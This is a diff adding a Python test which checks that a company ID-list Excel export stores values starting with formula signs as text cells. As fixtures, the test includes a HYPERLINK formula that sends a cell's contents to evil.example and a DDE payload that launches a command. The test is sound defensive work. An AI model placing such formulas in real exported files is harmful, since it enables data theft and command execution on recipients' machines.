@@ -74,3 +74,24 @@ def test_unwritable_file_creates_no_company(lazy, dbview, tmp_path):
     result = CliRunner().invoke(company, [*args, "--out", str(out), "--json"], obj=lazy)
     assert result.exit_code != 0
     assert dbview.query(Company).count() == 0
+
+
+def test_user_data_starting_with_a_formula_sign_is_written_as_text():
+    """Issue 16.17: a company name (or any other value) starting with `=`, `+`, `-` or `@` is
+    stored as a text cell, never as a formula Excel would evaluate."""
+    hostile = '=HYPERLINK("https://evil.example/?"&B2,"click")'
+    issued = IssuedIds(
+        "AB23CD45",
+        hostile,
+        [Credential("M2345ABCDE", "=1+1")],
+        [Credential("H2345ABCDE", "+SUM(A1)")],
+    )
+    stream = io.BytesIO()
+    write_id_list(stream, issued, date(2026, 4, 1), note="=cmd|' /C calc'!A0")
+    book = load_workbook(io.BytesIO(stream.getvalue()))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    written = {c.value: c.data_type for c in cells if c.value is not None}
+    assert written[hostile] == "s"
+    assert written["=1+1"] == "s" and written["+SUM(A1)"] == "s"
+    assert written["=cmd|' /C calc'!A0"] == "s"
+    assert all(c.data_type != "f" for c in cells)
